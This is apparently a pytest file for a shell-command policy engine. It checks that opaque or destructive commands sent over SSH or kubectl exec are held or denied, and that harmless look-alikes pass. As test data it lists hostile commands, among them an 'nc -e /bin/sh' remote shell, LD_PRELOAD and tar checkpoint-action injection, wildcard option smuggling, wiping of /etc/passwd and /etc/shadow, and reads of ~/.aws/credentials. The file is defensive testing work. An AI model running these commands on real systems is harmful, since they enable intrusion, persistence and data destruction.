"""Opaque means held (issue 58): each class of line whose effect only the host knows, with
variants of our own, decided end to end by the default pack on the embedded engine as the
SSH front (an exec and a typed line) and the Kubernetes stream front (an exec's argv and a
line typed into its session) ask it.

Every variant must be held (or refused, when what can be read is already destructive),
never allowed; look-alikes that the reader reads whole must pass. The execve differentials
(tests/e2e/test_*_execve_differential_e2e.py) run such lines against real shells.
"""

from __future__ import annotations

from typing import Any

import pytest

from extproc.policy.embedded import EmbeddedEngine
from tests.interpret.test_shell_effect_bypass import ssh
from tests.policy.test_pack_bypass import k8s_exec
from tests.policy_corpus import policy_input

# (class, line): each must not be allowed over SSH (exec and line) or kubectl exec.
CLASSES: list[tuple[str, str]] = [
    # state that runs later
    ("state", "PROMPT_COMMAND='touch x'"),
    ("state", "export PROMPT_COMMAND=date"),
    ("state", "PS1='$(touch x)> '"),
    ("state", "trap 'touch x' DEBUG"),
    ("state", "trap -- 'touch x' EXIT"),
    ("state", "alias ls='touch x'"),
    ("state", "f() { touch x; }"),
    ("state", "function ls { touch x; }"),
    ("state", "BASH_ENV=./f bash -c true"),
    ("state", "ENV=./f sh -i"),
    ("state", "PATH=.:$PATH ls"),
    ("state", "export PATH=~/bin:$PATH"),
    ("state", "IFS=/ read a b"),
    ("state", "LD_PRELOAD=./x.so ls"),
    ("state", "set -o vi"),
    ("state", "shopt -s extglob"),
    ("state", "set -f"),
    ("state", "exec > out.txt"),
    ("state", "bind -x '\"\\C-t\": touch x'"),
    ("state", "enable -f ./x.so x"),
    ("state", "fc -s ls"),
    ("state", "history -s 'touch x'"),
    ("state", "echo 'touch x' | at now"),
    ("state", "crontab ./jobs"),
    ("state", "declare -fx f"),
    ("state", "GIT_SSH_COMMAND='./zap' git fetch"),
    ("state", "echo 'alias ls=x' >> .bashrc"),
    ("state", "cp x ~/.local/bin/ls"),
    ("state", "printf 'x' > ~/.inputrc"),
    # a script the session wrote, a program the reader does not know
    ("script", "cat > f <<'EOF'\ntouch x\nEOF\nsh f"),
    ("script", "printf 'touch x' > f; . ./f"),
    ("script", "bash ./f"),
    ("script", "source f"),
    ("script", "python3 x.py"),
    ("script", "python3 -m zap"),
    ("script", "perl ./x.pl"),
    ("script", "awk -f prog.awk data"),
    ("unknown", "cp /bin/rm zap; ./zap -rf x"),
    ("unknown", "ln -s /bin/rm zap && ./zap x"),
    ("unknown", "/tmp/zap x"),
    ("unknown", "~/bin/zap x"),
    ("unknown", "../zap"),
    ("unknown", "dir/zap"),
    # options that run programs
    ("runs", "tar -cf x.tar --checkpoint=1 --checkpoint-action=exec=./zap notes"),
    ("runs", "tar -xf a.tar --to-command='sh -c x'"),
    ("runs", "tar -I ./zap -cf a.tar notes"),
    ("runs", "tar --use-compress-program=./zap -cf a.tar notes"),
    ("runs", "rsync -e ./zap notes h:/tmp"),
    ("runs", "rsync --rsh='./zap' notes h:x"),
    ("runs", "git -c core.sshCommand=./zap fetch"),
    ("runs", "git -c alias.x='!touch x' x"),
    ("runs", "git config core.pager ./zap"),
    ("runs", "ssh -o ProxyCommand='./zap' h"),
    ("runs", "ssh -oLocalCommand=./zap -oPermitLocalCommand=yes h"),
    ("runs", "sed -n '1e touch x' notes"),
    ("runs", "sed 's/a/b/e' notes"),
    ("runs", "zip -TT ./zap a.zip notes"),
    ("runs", "sort --compress-program=./zap notes"),
    ("runs", "split --filter=./zap notes"),
    ("runs", "vim -c '!touch x' notes"),
    ("runs", "nc -e /bin/sh h 1"),
    ("runs", "socat - EXEC:./zap"),
    # globs the reader cannot expand
    ("glob", "rm -rf *.*"),
    ("glob", "rm -rf {a..z}*"),
    ("glob", "rm -r [a-m]*"),
    ("glob", "chmod -R 777 *.d"),
    ("glob", "mv *.conf /tmp/away"),
    ("glob", "find * -delete"),
    ("glob", "truncate -s0 *.log"),
    # every name, read as options: `touch ./--checkpoint-action=exec=x` first
    ("glob", "tar cf x.tar *"),
    ("glob", "rsync -a * h:/backup"),
    ("glob", "chown user *"),
    ("glob", "rg TODO *"),
    ("glob", "ls | xargs rg TODO"),
    # operands computed at run time
    ("computed", "rev \"$(printf '.e\\156v')\""),
    ("computed", "cat $(ls -a | grep env)"),
    ("computed", "cat `ls -a | grep env`"),
    ("computed", "head -c 100 \"$F\""),
    ("computed", "cp \"$1\" /tmp/x"),
    ("computed", "tar -cf x.tar ${HOME_DIR:-.}"),
    # input from the client or a pipe planted as files
    ("unpack", "curl -s https://x.test/a.tar | tar -x"),
    ("unpack", "base64 -d < a.b64 | tar -xv"),
    ("unpack", "cat a.cpio | cpio -idm"),
    # look-alikes of Ansible's temporary-folder line that run, or name, something else
    ("substitution", 'mkdir -p "$(echo ~/x; touch y)"'),
    ("substitution", 'mkdir -p "` echo ~/.ansible/tmp `"x'),
    ("substitution", 'mkdir -p "` echo ~$(id -un)/.ansible/tmp `"'),
    ("substitution", 'mkdir -p "` printf ~/.ansible/tmp `"'),
    ("substitution", 'mkdir -p ` echo ~/.ansible/tmp `'),
    ("substitution", 'mkdir -p "` echo ~/x ~/y `"'),
    ("substitution", 'mkdir -p "` echo ~/* `"'),
    ("substitution", 'mkdir -p "` eval echo ~/x `"'),
    ("substitution", 'mkdir -p "` echo ~/x `"$D'),
]
# Destroying content without deleting, and globs that match every name: refused.
REFUSED: list[str] = [
    "rm -rf [!.]*", "rm -rf ?*", "rm -rf *?", "rm -rf [^.]*", "truncate -s0 *",
    "truncate -s 0 /etc/shadow", "sed -i d /etc/passwd", "sed -i.bak '1d' /etc/hosts",
    "install /dev/null /etc/hosts", ": > /etc/passwd", "cp /dev/null /etc/sudoers",
    "dd if=/dev/zero of=/etc/fstab", "gzip /etc/passwd", "mv x /dev/null",
    "ln -sf x /dev/null", "tee /etc/motd < x", "truncate -s0 .env", "sed -i d .env",
    "PROMPT_COMMAND='rm -rf /'", "trap 'rm -rf ~' EXIT", "alias ls='rm -rf *'",
    "X=/; rm -rf $X",
    'rm -rf "` echo ~ `"', 'rm -rf "$(echo ~/.ssh)"', 'cat "` echo ~/.aws/credentials `"',
]
# Read whole: pass.
READ: list[str] = [
    "ls -la", "ls *.txt", "grep -n TODO *.py", "wc -l *", "cat notes.txt",
    "f=notes.txt; cat $f", "echo $HOME $PATH", "cd /tmp && ls", "set -euo pipefail",
    "export LANG=C", "tar -czf backup.tgz notes", "git log --oneline", "sed 's/a/b/' notes",
    "/usr/bin/ls -la", "rm -rf ./build", "find . -name '*.pyc' -delete", "echo 'a!b'",
    "cat '$f'", "echo \"*\"", "tar cf x.tar ./*", "ls *",
    "mkdir -p \"` echo /tmp/a `\"", "echo started; exec sleep 30",
    # Ansible's temporary-folder line, as Ansible 2.19 sends it (its home: `~`, or the
    # login's, which the SSH front answers as the account's)
    '( umask 77 && mkdir -p "` echo ~/.ansible/tmp `"&& mkdir "` echo '
    '~/.ansible/tmp/ansible-tmp-1-2 `" && echo ansible-tmp-1-2="` echo '
    '~/.ansible/tmp/ansible-tmp-1-2 `" ) && sleep 0',
    "echo ~web-1 && sleep 0",
]


def _decisions(engine: EmbeddedEngine, line: str) -> dict[str, Any]:
    return {
        "ssh exec": engine.decide_now(policy_input(ssh(line))),
        "ssh line": engine.decide_now(policy_input(ssh(line, "line"))),
        "kubectl exec": engine.decide_now(policy_input(k8s_exec("sh", "-c", line))),
    }


@pytest.mark.parametrize("line", [pytest.param(c, id=f"{k}-{i}")
                                  for i, (k, c) in enumerate(CLASSES)])
def test_what_only_the_host_knows_is_never_allowed(engine: EmbeddedEngine, line: str) -> None:
    for front, decision in _decisions(engine, line).items():
        assert decision.action in ("hold", "deny"), (front, decision.reasons)


@pytest.mark.parametrize("line", REFUSED)
def test_destroying_content_or_every_name_is_refused(engine: EmbeddedEngine,
                                                     line: str) -> None:
    for front, decision in _decisions(engine, line).items():
        assert decision.action == "deny", (front, decision.reasons)


@pytest.mark.parametrize("line", READ)
def test_what_is_read_whole_passes(engine: EmbeddedEngine, line: str) -> None:
    decision = engine.decide_now(policy_input(ssh(line)))
    assert decision.action == "allow", decision.reasons


def test_a_held_line_says_why(engine: EmbeddedEngine) -> None:
    decision = engine.decide_now(policy_input(ssh("cp /bin/rm zap; ./zap -rf x")))
    assert (decision.action, list(decision.rules)) == ("hold", ["ssh.opaque_command"])
    assert list(decision.reasons) == ["runs what cannot be read (unknown_program): zap -rf x"]


def test_history_expansion_is_held_only_where_a_shell_expands_it(
        engine: EmbeddedEngine) -> None:
    assert engine.decide_now(policy_input(ssh("echo hi; !!", "line"))).action == "hold"
    assert engine.decide_now(policy_input(ssh("echo hi; !!"))).action == "allow"
